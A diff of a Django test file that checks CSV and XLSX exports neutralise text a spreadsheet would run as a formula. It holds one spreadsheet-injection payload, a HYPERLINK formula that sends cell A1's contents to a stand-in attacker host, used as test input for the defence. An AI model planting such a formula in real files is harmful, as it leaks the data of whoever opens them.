@@ -1,8 +1,6 @@
-"""Every CSV export neutralises what a spreadsheet would run as a formula."""
+"""Every CSV and XLSX export neutralises what a spreadsheet would run as a formula."""
 
-import csv
 import datetime
-import io
 
 import pytest
 from django.urls import reverse
@@ -11,6 +9,7 @@ from django.utils import translation
 from core.exports import neutral
 from tests.dashboards.factories import MONTH, member, rebuilt, visits
 from tests.museumpas.factories import MuseumFactory
+from tests.support.exports import read_csv
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
 # NPS -20: two promoters, four passives, four detractors.
@@ -25,9 +24,7 @@ def _english(client):
 
 
 def read(response) -> list[list[str]]:
-    assert response.status_code == 200
-    assert response["Content-Type"] == "text/csv; charset=utf-8"
-    return list(csv.reader(io.StringIO(response.content.decode())))
+    return read_csv(response, delimiter=",")  # English: the comma
 
 
 def test_a_text_starting_like_a_formula_gets_a_quote_and_numbers_stay_numbers():
